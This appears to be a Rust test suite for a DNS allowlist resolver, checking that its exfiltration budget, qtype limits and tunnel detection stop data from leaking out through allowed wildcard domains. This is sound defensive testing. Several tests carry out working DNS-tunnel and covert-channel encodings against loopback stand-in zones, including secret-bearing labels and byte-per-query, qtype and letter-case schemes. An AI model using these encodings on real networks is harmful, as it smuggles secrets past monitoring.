//! Exfiltration through allowed wildcards (docs/exfiltration.md), through
//! the real binary with a real upstream on loopback:
//! - a wildcard answers address types only, unless its entry lists `qtypes`;
//! - new names under a wildcard are charged to a per-agent, per-domain
//!   budget; past the hard limit they are refused, seen names still work;
//! - letter case and a wildcard on a public suffix buy no extra budget;
//! - the committed corpus of hard legitimate names raises nothing;
//! - a flood of unique names does not grow the resolver's memory;
//! - `check` validates `qtypes` with file:line and warns about DoH endpoints.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::*;
use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;

/// A zone answering every name below `origin` (wildcard), TTL 0 so that
/// every repeat goes upstream again (the budget, not the cache, is tested).
fn wildcard_zone(dir: &TempDir, origin: &str) -> PathBuf {
    dir.write(
        &format!("{origin}.zone"),
        &format!(
            "$ORIGIN {origin}.\n$TTL 0\n\
             @ IN SOA ns.{origin}. hostmaster.{origin}. 1 3600 600 86400 0\n\
             @ IN NS ns.{origin}.\n\
             ns IN A 192.0.2.53\n\
             * IN A 192.0.2.80\n\
             * IN AAAA 2001:db8::80\n\
             * IN TXT \"tunnel-reply\"\n\
             * IN MX 10 mx.{origin}.\n"
        ),
    )
}

struct Lab {
    dir: TempDir,
    up: Upstream,
}

impl Lab {
    fn new(ip: &str, origins: &[&str]) -> Lab {
        let dir = TempDir::new("exfil");
        let zones: Vec<PathBuf> = origins.iter().map(|o| wildcard_zone(&dir, o)).collect();
        let up = Upstream::start(ip, 0, &zones);
        Lab { dir, up }
    }

    /// Serves `policy`; returns the server and its audit log path.
    fn serve(&self, tag: &str, policy: &str) -> (Allowdns, PathBuf) {
        let policy = self.dir.write(&format!("{tag}.yaml"), policy);
        let audit = self.dir.0.join(format!("{tag}.audit.jsonl"));
        let upstream = self.up.addr.to_string();
        let dns = Allowdns::upstream_audit(&upstream, &policy, &audit, &[]);
        (dns, audit)
    }

    fn asked(&self, suffix: &str) -> usize {
        self.up
            .names()
            .iter()
            .filter(|n| n.ends_with(suffix))
            .count()
    }
}

/// A 60-character label as a tunnel would send: hex of `i` padded with data.
fn tunnel_label(i: usize) -> String {
    format!("{:x}{}", i, "q0r9s8t7u6v5w4x3y2z1".repeat(3))[..60].to_string()
}

#[test]
fn a_wildcard_answers_address_types_only_unless_its_entry_lists_more() {
    let lab = Lab::new("127.0.0.31", &["cdn.test", "txtok.test", "plain.test"]);
    // Positive control: listed, TXT under a wildcard goes up and is answered.
    let (dns, _) = lab.serve(
        "listed",
        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n    qtypes: [A, TXT, MX]\n",
    );
    let m = query(
        dns.udp,
        "c2VjcmV0LWtleS0xMjM0.tunnel.cdn.test",
        RecordType::TXT,
    );
    assert_eq!(m.metadata.response_code, ResponseCode::NoError);
    assert_eq!(answers(&m)[0].1, "TXT");
    assert_eq!(lab.asked("tunnel.cdn.test"), 1);
    // Listing replaces the default: AAAA is not in this list.
    assert_rcode(dns.udp, "v6.cdn.test AAAA", ResponseCode::Refused);
    drop(dns);

    let (dns, audit) = lab.serve(
        "default",
        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n  - destination: plain.test\nallowed_dynamic_resolution:\n  - pattern: \"*.txtok.test\"\n    qtypes: [TXT]\n",
    );
    // A data label under an allowed wildcard, of a qtype the entry does not
    // allow: refused here, never sent upstream.
    let before = lab.up.names_but_probe().len();
    let m = query(
        dns.udp,
        "c2VjcmV0LWtleS0xMjM0.tunnel.cdn.test",
        RecordType::TXT,
    );
    assert_eq!(m.metadata.response_code, ResponseCode::Refused);
    assert!(m.answers.is_empty());
    for t in [
        RecordType::NULL,
        RecordType::ANY,
        RecordType::MX,
        RecordType::SRV,
        RecordType::Unknown(65399),
    ] {
        assert_eq!(
            rcode(dns.udp, "x.cdn.test", t),
            ResponseCode::Refused,
            "{t}"
        );
    }
    assert_eq!(
        lab.up.names_but_probe().len(),
        before,
        "nothing refused went upstream"
    );
    // Address types still work under the wildcard; exact names answer any type.
    for t in [RecordType::A, RecordType::AAAA] {
        assert_eq!(rcode(dns.udp, "www.cdn.test", t), ResponseCode::NoError);
    }
    assert_rcode(dns.udp, "plain.test MX", ResponseCode::NoError);
    // A listed type under a dynamic entry.
    assert_rcode(dns.udp, "k.txtok.test TXT", ResponseCode::NoError);
    let lines = audit_at_least(&audit, 11);
    let refused: Vec<_> = lines.iter().filter(|l| l["exfil"] == "qtype").collect();
    assert_eq!(refused.len(), 6, "{lines:?}");
    for l in refused {
        assert_eq!(l["decision"], "deny");
        assert_eq!(l["rcode"], "REFUSED");
        assert_eq!(l["rule"], "*.cdn.test");
    }
    assert!(
        lines
            .iter()
            .filter(|l| l["exfil"].is_null())
            .all(|l| l["decision"] == "allow"),
        "{lines:?}"
    );
    dns.wait_for("QUERY TYPE REFUSED", 1);
    let stderr = dns.stderr();
    assert_has(&stderr, "c2VjcmV0LWtleS0xMjM0.tunnel.cdn.test");
}

#[test]
fn new_names_are_cut_at_the_hard_limit_while_seen_names_keep_working() {
    let lab = Lab::new("127.0.0.32", &["cdn.test", "other.test"]);
    const NAMES: usize = 300;
    let names: Vec<String> = (0..NAMES)
        .map(|i| format!("{}.t.cdn.test", tunnel_label(i)))
        .collect();

    // Positive control: without the budget every new name leaves.
    let (dns, _) = lab.serve(
        "off",
        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n  budget: off\n",
    );
    for n in &names {
        assert_eq!(rcode(dns.udp, n, RecordType::A), ResponseCode::NoError);
    }
    assert_eq!(lab.asked(".t.cdn.test"), NAMES);
    drop(dns);

    let policy = "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n  - destination: \"*.other.test\"\nexfil:\n  soft_bytes: 1024\n  hard_bytes: 2048\n  cooldown_secs: 600\n";
    let (dns, audit) = lab.serve("on", policy);
    let seen = "www.cdn.test";
    assert_eq!(rcode(dns.udp, seen, RecordType::A), ResponseCode::NoError);
    let before = lab.asked(".t.cdn.test");
    let mut passed = 0;
    for n in names.iter().map(|n| n.replace(".t.", ".u.")) {
        match rcode(dns.udp, &n, RecordType::A) {
            ResponseCode::NoError => passed += 1,
            ResponseCode::Refused => {}
            other => panic!("{n}: {other}"),
        }
    }
    let leaked = lab.asked(".u.cdn.test");
    assert_eq!(leaked, passed, "a refused name never leaves");
    // 2 KiB at about 35 bytes of estimated information per 60-char name.
    assert!((40..=70).contains(&passed), "{passed} names passed");
    assert_eq!(lab.asked(".t.cdn.test"), before);

    // Cooldown: even a short new name is refused; a seen one still
    // resolves, from the cache (its TTL 0 answer is held min_ttl_secs), so
    // nothing leaves; other domains are untouched.
    assert_rcode(dns.udp, "x.cdn.test A", ResponseCode::Refused);
    let asked_seen = lab.up.count(seen);
    assert_eq!(rcode(dns.udp, seen, RecordType::A), ResponseCode::NoError);
    assert_eq!(lab.up.count(seen), asked_seen, "held, not asked again");
    assert_rcode(dns.udp, "fresh.other.test A", ResponseCode::NoError);

    dns.wait_for("EXFILTRATION BUDGET EXCEEDED", 1);
    let stderr = dns.stderr();
    assert_has(&stderr, "soft limit passed");
    assert_eq!(
        stderr.matches("EXFILTRATION BUDGET EXCEEDED").count(),
        1,
        "one alert per cooldown, not one per name:\n{stderr}"
    );
    let lines = audit_at_least(&audit, NAMES + 4);
    let marked = |mark: &str| lines.iter().filter(|l| l["exfil"] == mark).count();
    assert_eq!(
        marked("budget"),
        NAMES - passed + 1,
        "every refusal is audited"
    );
    assert!(marked("soft") > 0 && marked("soft") < passed);
    for l in lines.iter().filter(|l| l["exfil"] == "budget") {
        assert_eq!(l["decision"], "deny");
        assert_eq!(l["rcode"], "REFUSED");
    }
}

/// Two cheap leaks through the binary: case-only variants of one name, and
/// one fresh data label per name right under a public suffix allowed by a
/// wildcard. Each is charged to the budget.
#[test]
fn case_variants_and_names_under_a_public_suffix_are_charged() {
    let lab = Lab::new("127.0.0.35", &["cdn.test", "github.io"]);
    const NAMES: usize = 200;
    let mut rng = 7u64;
    let mut next = move || {
        rng = rng
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        rng >> 33
    };
    let mut case = Vec::new();
    let mut psl = Vec::new();
    for _ in 0..NAMES {
        let label: String = (0..63)
            .map(|_| if next() % 2 == 1 { 'A' } else { 'a' })
            .collect();
        case.push(format!("{label}.c.cdn.test"));
        let label: String = (0..40)
            .map(|_| b"abcdefghijklmnopqrstuvwxyz0123456789"[(next() % 36) as usize] as char)
            .collect();
        psl.push(format!("{label}.github.io"));
    }
    let policy = |exfil: &str| {
        format!(
            "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n  - destination: \"*.github.io\"\nexfil:\n{exfil}"
        )
    };
    let send = |dns: &Allowdns, names: &[String]| {
        names
            .iter()
            .filter(|n| match rcode(dns.udp, n, RecordType::A) {
                ResponseCode::NoError => true,
                ResponseCode::Refused => false,
                other => panic!("{n}: {other}"),
            })
            .count()
    };

    // Positive control: without the budget every name leaves.
    let (dns, _) = lab.serve("off", &policy("  budget: off\n"));
    assert_eq!(send(&dns, &case), NAMES);
    assert_eq!(send(&dns, &psl), NAMES);
    assert_eq!(lab.asked(".c.cdn.test"), NAMES);
    assert_eq!(lab.asked(".github.io"), NAMES);
    drop(dns);

    // No floor: with one, every case variant after the first is a cache
    // hit (the cache ignores case) and none leaves at all.
    let (dns, _) = lab.serve(
        "on",
        &policy("  soft_bytes: 1024\n  hard_bytes: 2048\n  min_ttl_secs: 0\n"),
    );
    let case_passed = send(&dns, &case);
    let psl_passed = send(&dns, &psl);
    eprintln!("of {NAMES}: {case_passed} case variants and {psl_passed} github.io names passed");
    // 2 KiB: case variants cost 63 x log2(53) bits each (~45 fit; were a
    // recased label "seen", ~1600 would); each data label under github.io
    // ~40 x log2(37) bits (~75 fit; uncharged, all of them would).
    assert!((20..=60).contains(&case_passed), "{case_passed}");
    assert!((40..=100).contains(&psl_passed), "{psl_passed}");
    assert_eq!(lab.asked(".c.cdn.test"), NAMES + case_passed);
    assert_eq!(lab.asked(".github.io"), NAMES + psl_passed);
    dns.wait_for("EXFILTRATION BUDGET EXCEEDED", 2);
    let stderr = dns.stderr();
    assert_eq!(
        stderr.matches("EXFILTRATION BUDGET EXCEEDED").count(),
        2,
        "one alert per budget:\n{stderr}"
    );
    drop(dns);

    // Defaults: the first variant's answer is held 30 s; the other 199 are
    // answered from the cache and carry nothing out.
    let before = lab.asked(".c.cdn.test");
    let (dns, _) = lab.serve("held", &policy("  soft_bytes: 8192\n"));
    assert_eq!(send(&dns, &case), NAMES);
    assert_eq!(lab.asked(".c.cdn.test"), before + 1);
    // The client (and the fence, fed the same records) is told to hold it
    // as long, though the zone said TTL 0.
    let m = query(dns.udp, &case[0], RecordType::A);
    assert!((25..=30).contains(&m.answers[0].ttl), "{:?}", m.answers);
}

/// The zones behind every name of the corpus.
const CORPUS_ZONES: &[&str] = &[
    "cloudfront.net",
    "amazonaws.com",
    "googlevideo.com",
    "pstmn.io",
    "datastax.com",
    "windows.net",
    "azurefd.net",
    "r2.dev",
    "akamaiedge.net",
];

#[test]
fn the_legit_corpus_replays_without_an_alert_or_a_denial() {
    let corpus = std::fs::read_to_string(data("legit-names.txt")).unwrap();
    let names: Vec<&str> = corpus.lines().collect();
    assert!(names.len() >= 3000, "{}", names.len());
    let lab = Lab::new("127.0.0.33", CORPUS_ZONES);
    let mut policy = String::from("agent_name: a\nexpected_outbound:\n");
    for zone in CORPUS_ZONES {
        policy.push_str(&format!("  - destination: \"*.{zone}\"\n"));
    }
    // Default limits: what a real workload must stay under.
    let (dns, audit) = lab.serve("corpus", &policy);
    // 200 new names a second, a busy agent's peak (the budget drains with
    // time, so replaying faster than real is the harder test), each asked
    // as a browser does: A, AAAA and HTTPS, three questions upstream.
    let started = Instant::now();
    for (i, n) in names.iter().enumerate() {
        let due = started + Duration::from_millis(5 * i as u64);
        if let Some(wait) = due.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
        let m = query(dns.udp, n, RecordType::A);
        assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{n}");
        assert_eq!(answers(&m).len(), 1, "{n}");
        for t in [RecordType::AAAA, RecordType::HTTPS] {
            assert_ne!(rcode(dns.udp, n, t), ResponseCode::Refused, "{n} {t}");
        }
    }
    let upstream = lab.up.names_but_probe().len();
    assert_eq!(upstream, 3 * names.len(), "each question left once");
    // Browsers and SDKs ask the same names again and again: every tenth
    // of the last 1,000 names (asked within the 30 s floor), five more
    // times, in both address types. The zone answers with TTL 0, so
    // without the floor each would go upstream again.
    let mut repeats = 0;
    for _ in 0..5 {
        for n in names.iter().rev().take(1000).step_by(10) {
            for t in [RecordType::A, RecordType::AAAA] {
                assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
                repeats += 1;
            }
        }
    }
    assert_eq!(
        lab.up.names_but_probe().len(),
        upstream,
        "repeats were held"
    );
    // Later, every tenth name again, once the first ones' floor has run
    // out (the replay takes longer than 30 s): those go upstream again,
    // are charged as re-asks, and still raise nothing.
    let waited = started + Duration::from_secs(31);
    if let Some(wait) = waited.checked_duration_since(Instant::now()) {
        std::thread::sleep(wait);
    }
    for n in names.iter().step_by(10) {
        for t in [RecordType::A, RecordType::AAAA] {
            assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
            repeats += 1;
        }
    }
    let again = lab.up.names_but_probe().len() - upstream;
    eprintln!("corpus: {upstream} questions upstream, then {again} re-asked after the floor");
    assert!(again > 0, "positive control: the floor ran out for some");
    let lines = audit_at_least(&audit, 3 * names.len() + repeats);
    assert_eq!(lines.len(), 3 * names.len() + repeats);
    assert!(
        lines
            .iter()
            .all(|l| l["decision"] == "allow" && l["exfil"].is_null()),
        "a corpus name was marked or denied: {:?}",
        lines
            .iter()
            .find(|l| !(l["decision"] == "allow" && l["exfil"].is_null()))
    );
    let stderr = dns.stderr();
    assert_lacks(&stderr, "[!]");
}

/// Resident memory of a process, from /proc.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap()
}

#[test]
fn a_flood_of_unique_names_does_not_grow_memory() {
    // Timed: no lab is built, run or torn down meanwhile.
    let _alone = common::alone();
    let lab = Lab::new("127.0.0.34", &["cdn.test"]);
    let (dns, _) = lab.serve(
        "flood",
        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n",
    );
    let flood = |from: usize, to: usize| {
        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
        let mut buf = [0u8; 1500];
        for i in from..to {
            let q = raw_query(i as u16, &format!("{}.f.cdn.test", tunnel_label(i)));
            sock.send_to(&q, dns.udp).unwrap();
            let _ = sock.recv_from(&mut buf);
        }
    };
    // Warm up: the agent's budget exists and its domain is in cooldown.
    flood(0, 2_000);
    let warm = rss_kib(dns.pid());
    flood(2_000, 42_000);
    let after = rss_kib(dns.pid());
    eprintln!(
        "RSS after 2k names: {warm} KiB; after 40k more: {after} KiB; per-agent bound {} bytes",
        allowdns::serve::exfil::AGENT_BYTES
    );
    assert!(
        after < warm + 4 * 1024,
        "RSS grew from {warm} KiB to {after} KiB"
    );
    assert!(lab.asked(".f.cdn.test") < 1_000, "the flood was cut");
    const { assert!(allowdns::serve::exfil::AGENT_BYTES <= 70 * 1024) };
}

/// A minimal A query with recursion desired.
fn raw_query(id: u16, name: &str) -> Vec<u8> {
    let mut q = Vec::with_capacity(300);
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

fn check(policy: &Path) -> (i32, String) {
    let out = Command::new(bin())
        .args(["check", "--policy", policy.to_str().unwrap(), "--upstream"])
        .arg("127.0.0.1:53")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

#[test]
fn check_validates_qtypes_and_warns_about_doh_endpoints() {
    let dir = TempDir::new("exfil-check");
    let bad = dir.write(
        "bad.yaml",
        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n    qtypes: [A, BOGUS]\n  - destination: 192.0.2.1\n    qtypes: [A]\nexfil:\n  soft_bytes: 4096\n  hard_bytes: 1024\n  min_ttl_secs: 100000\n",
    );
    let (code, out) = check(&bad);
    assert_ne!(code, 0, "{out}");
    assert_has(&out, "bad.yaml:4");
    assert_has(&out, "expected_outbound[0].qtypes");
    assert_has(&out, "BOGUS");
    assert_has(&out, "bad.yaml:5");
    assert_has(&out, "expected_outbound[1].qtypes");
    assert_has(&out, "bad.yaml:9");
    assert_has(&out, "exfil.hard_bytes");
    assert_has(&out, "bad.yaml:10");
    assert_has(&out, "exfil.min_ttl_secs");

    let doh = dir.write(
        "doh.yaml",
        "agent_name: a\nexpected_outbound:\n  - destination: api.example.com\n  - destination: dns.google\n  - destination: \"*.cloudflare-dns.com\"\n",
    );
    let (code, out) = check(&doh);
    assert_eq!(code, 0, "{out}");
    assert_has(&out, "doh.yaml:4");
    assert_has(&out, "DNS-over-HTTPS");
    assert_has(&out, "doh.yaml:5");
    assert_lacks(&out, "doh.yaml:3");
}

/// A plain UDP client for floods: one socket, one question at a time.
struct Asker {
    sock: std::net::UdpSocket,
    server: std::net::SocketAddr,
    id: u16,
}

impl Asker {
    fn new(server: std::net::SocketAddr) -> Asker {
        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        Asker {
            sock,
            server,
            id: 0,
        }
    }

    /// The reply's rcode (0 NOERROR, 5 REFUSED, ...).
    fn ask(&mut self, name: &str, qtype: RecordType) -> u8 {
        self.id = self.id.wrapping_add(1);
        let mut q = raw_query(self.id, name);
        let at = q.len() - 4;
        q[at..at + 2].copy_from_slice(&u16::from(qtype).to_be_bytes());
        self.sock.send_to(&q, self.server).unwrap();
        let mut buf = [0u8; 1500];
        loop {
            let (n, _) = common::recv_from(&self.sock, &mut buf).expect("a reply");
            if n >= 12 && buf[..2] == self.id.to_be_bytes() {
                return buf[3] & 0x0f;
            }
        }
    }
}

/// Deterministic random bytes.
fn secret(len: usize, seed: u64) -> Vec<u8> {
    let mut rng = seed;
    (0..len)
        .map(|_| {
            rng = rng
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (rng >> 56) as u8
        })
        .collect()
}

/// A covert channel: pay once for 256 names `00`..`ff`, then send
/// one byte a question by which of them is asked, the attacker's name
/// server answering with TTL 0. The attacker's view is the upstream's log.
#[test]
fn re_asked_names_carry_no_more_than_the_budget_to_a_ttl0_name_server() {
    const SECRET: usize = 20 * 1024;
    let lab = Lab::new("127.0.0.37", &["cdn.test"]);
    let secret = secret(SECRET, 11);
    let names: Vec<String> = (0..=255u8).map(|i| format!("{i:02x}.k.cdn.test")).collect();
    let policy = |exfil: &str| {
        format!(
            "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
        )
    };
    // Returns the bytes the attacker decoded and the questions refused.
    let run = |exfil: &str| {
        let (dns, _) = lab.serve("reask", &policy(exfil));
        let mut asker = Asker::new(dns.udp);
        let start = lab.up.sent.lock().unwrap().len();
        for n in &names {
            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
        }
        let paid = lab.up.sent.lock().unwrap().len();
        let (mut refused, mut in_a_row) = (0, 0);
        for &byte in &secret {
            match asker.ask(&names[usize::from(byte)], RecordType::A) {
                0 => in_a_row = 0,
                5 => {
                    refused += 1;
                    in_a_row += 1;
                }
                other => panic!("rcode {other}"),
            }
            // Cut off for good: stop rather than wait out the drain.
            if in_a_row > 500 {
                break;
            }
        }
        let log = lab.up.sent.lock().unwrap();
        assert_eq!(paid - start, 256, "the purchase left");
        let decoded: Vec<u8> = log[paid..]
            .iter()
            .filter_map(|(n, _)| {
                u8::from_str_radix(n.to_ascii_lowercase().strip_suffix(".k.cdn.test")?, 16).ok()
            })
            .collect();
        (decoded, refused)
    };

    // Positive control, the budget off: the whole secret arrives.
    let (out, refused) = run("  budget: off\n");
    eprintln!(
        "budget off: {} of {SECRET} bytes out, {refused} refused",
        out.len()
    );
    assert_eq!(out, secret, "the channel works");
    assert!(out.len() > DEFAULT_HARD_BYTES as usize);

    // The charge alone (no floor): each re-ask costs the choice it carries.
    let (out, refused) = run("  min_ttl_secs: 0\n");
    eprintln!(
        "charge, no floor: {} bytes out, {refused} refused",
        out.len()
    );
    assert!(out.len() < DEFAULT_HARD_BYTES as usize, "{}", out.len());
    assert!(refused > 0);
    assert_eq!(out[..], secret[..out.len()], "what left is a prefix");

    // Defaults: the floor holds each answer 30 s, so a re-ask is a cache
    // hit that never leaves, and every question is still answered.
    let (out, refused) = run("");
    eprintln!("defaults: {} bytes out, {refused} refused", out.len());
    assert_eq!((out.len(), refused), (0, 0));
}

const DEFAULT_HARD_BYTES: u32 = allowdns::serve::exfil::DEFAULT_HARD_BYTES;

/// Every strategy at once, each question carrying as much as it can:
/// a new name with 64 bits of hex; one of 64 seen names in one of four
/// types (8 bits); an 8-letter label whose case carries 8 bits, in one of
/// four types (10 bits). TTL 0 answers. The bits the attacker reads are
/// counted from the upstream's log, names as sent.
#[test]
fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() {
    const TYPES: [RecordType; 4] = [
        RecordType::A,
        RecordType::AAAA,
        RecordType::HTTPS,
        RecordType::SVCB,
    ];
    let lab = Lab::new("127.0.0.38", &["cdn.test"]);
    let secret = secret(24 * 1024, 13);
    let pool: Vec<String> = (0..64).map(|i| format!("w{i:02}.m.cdn.test")).collect();
    // The bits of the secret, most significant first.
    let bits: Vec<u8> = secret
        .iter()
        .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1))
        .collect();
    let take = |at: &mut usize, n: usize| -> u64 {
        let mut v = 0;
        for _ in 0..n {
            v = (v << 1) | u64::from(bits.get(*at).copied().unwrap_or(0));
            *at += 1;
        }
        v
    };
    // What one question in the log carries, as the attacker decodes it.
    let read = |name: &str, qtype: RecordType| -> Option<(u64, usize)> {
        let t = TYPES.iter().position(|&x| x == qtype)? as u64;
        let lower = name.to_ascii_lowercase();
        if let Some(hex) = lower.strip_suffix(".n.m.cdn.test") {
            return Some((u64::from_str_radix(hex, 16).ok()?, 64));
        }
        if lower.ends_with(".c.m.cdn.test") {
            let case = name[..8]
                .bytes()
                .fold(0, |v, b| (v << 1) | u64::from(b.is_ascii_uppercase()));
            return Some(((case << 2) | t, 10));
        }
        let w: u64 = lower
            .strip_prefix('w')?
            .strip_suffix(".m.cdn.test")?
            .parse()
            .ok()?;
        Some(((w << 2) | t, 8))
    };
    let run = |exfil: &str| {
        let (dns, _) = lab.serve(
            "mix",
            &format!(
                "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
            ),
        );
        let mut asker = Asker::new(dns.udp);
        for n in &pool {
            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
        }
        let paid = lab.up.sent.lock().unwrap().len();
        let (mut at, mut round, mut in_a_row, mut refused) = (0, 0usize, 0, 0);
        while at < bits.len() && in_a_row < 500 {
            let (name, qtype) = match round % 3 {
                0 => (
                    format!("{:016x}.n.m.cdn.test", take(&mut at, 64)),
                    RecordType::A,
                ),
                1 => {
                    let v = take(&mut at, 8);
                    (pool[(v >> 2) as usize].clone(), TYPES[(v & 3) as usize])
                }
                _ => {
                    let v = take(&mut at, 10);
                    let word: String = "abcdefgh"
                        .chars()
                        .enumerate()
                        .map(|(i, c)| {
                            if (v >> (2 + 7 - i)) & 1 == 1 {
                                c.to_ascii_uppercase()
                            } else {
                                c
                            }
                        })
                        .collect();
                    (format!("{word}.c.m.cdn.test"), TYPES[(v & 3) as usize])
                }
            };
            round += 1;
            // hickory answers a type its wildcard lacks with NXDOMAIN.
            match asker.ask(&name, qtype) {
                0 | 3 => in_a_row = 0,
                5 => {
                    refused += 1;
                    in_a_row += 1;
                }
                other => panic!("{name}: rcode {other}"),
            }
        }
        let log = lab.up.sent.lock().unwrap();
        let out_bits: usize = log[paid..]
            .iter()
            .filter_map(|(n, t)| read(n, *t))
            .map(|(_, b)| b)
            .sum();
        (out_bits / 8, refused, at / 8)
    };

    // Positive control, the budget off: every question leaves, and the
    // attacker's decoding is the secret, but for the letter case: the
    // forwarder sends each letter in random case (DNS 0x20), so the bits
    // spelled in case arrive as coin flips. They are still counted as out.
    let (out, refused, sent) = run("  budget: off\n");
    eprintln!("mix, budget off: {out} bytes out of {sent} sent, {refused} refused");
    assert!(out >= secret.len() && refused == 0, "{out} {refused}");
    {
        let log = lab.up.sent.lock().unwrap();
        let (mut decoded, mut in_case) = (Vec::new(), Vec::new());
        for (name, qtype) in log.iter().skip(64) {
            let Some((v, n)) = read(name, *qtype) else {
                continue;
            };
            let case = name.to_ascii_lowercase().ends_with(".c.m.cdn.test");
            for i in (0..n).rev() {
                decoded.push(((v >> i) & 1) as u8);
                in_case.push(case && i >= 2);
            }
        }
        let (mut case_bits, mut case_right) = (0, 0);
        for (i, bit) in bits.iter().enumerate() {
            if in_case[i] {
                case_bits += 1;
                case_right += usize::from(decoded[i] == *bit);
            } else {
                assert_eq!(decoded[i], *bit, "bit {i} of the secret");
            }
        }
        let share = case_right as f64 / case_bits as f64;
        eprintln!("case bits read right: {case_right} of {case_bits}");
        assert!((0.45..0.55).contains(&share), "case carried {share}");
    }

    for exfil in ["  min_ttl_secs: 0\n", ""] {
        let (out, refused, sent) = run(exfil);
        eprintln!("mix, {exfil:?}: {out} bytes out of {sent} sent, {refused} refused");
        assert!(
            out < DEFAULT_HARD_BYTES as usize,
            "{exfil:?}: {out} bytes out"
        );
    }
}

/// 300 rapid unique 40-hex labels under one wildcard (about 6 KB, under
/// the soft limit) are flagged within the first few names.
#[test]
fn tunnel_shaped_names_raise_an_alert_early() {
    let lab = Lab::new("127.0.0.39", &["cdn.test"]);
    let hex = secret(300 * 20, 17);
    let names: Vec<String> = hex
        .chunks(20)
        .map(|c| {
            let label: String = c.iter().map(|b| format!("{b:02x}")).collect();
            format!("{label}.t.cdn.test")
        })
        .collect();
    let policy = |exfil: &str| {
        format!("agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n{exfil}")
    };
    let run = |tag: &str, exfil: &str| {
        let (dns, audit) = lab.serve(tag, &policy(exfil));
        let mut asker = Asker::new(dns.udp);
        for n in &names {
            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
        }
        let lines = audit_at_least(&audit, names.len());
        let first = lines.iter().position(|l| !l["exfil"].is_null());
        (first, dns)
    };
    // Positive control: today's budget passes the whole tunnel in silence
    // (6 KB < the 8 KiB soft limit); here with the budget off.
    let (first, dns) = run("off", "exfil:\n  budget: off\n");
    assert_eq!(first, None);
    assert!(!dns.stderr().contains("[!]"), "{}", dns.stderr());
    assert_eq!(lab.asked(".t.cdn.test"), names.len());
    drop(dns);

    let (first, dns) = run("on", "");
    dns.wait_for("shaped like a DNS tunnel", 1);
    eprintln!("tunnel shape: first marked name is #{first:?} of 300");
    assert_eq!(first, Some(7), "the 8th tunnel-shaped name is marked");
    let stderr = dns.stderr();
    assert_eq!(
        stderr.matches("shaped like a DNS tunnel").count(),
        1,
        "{stderr}"
    );
}
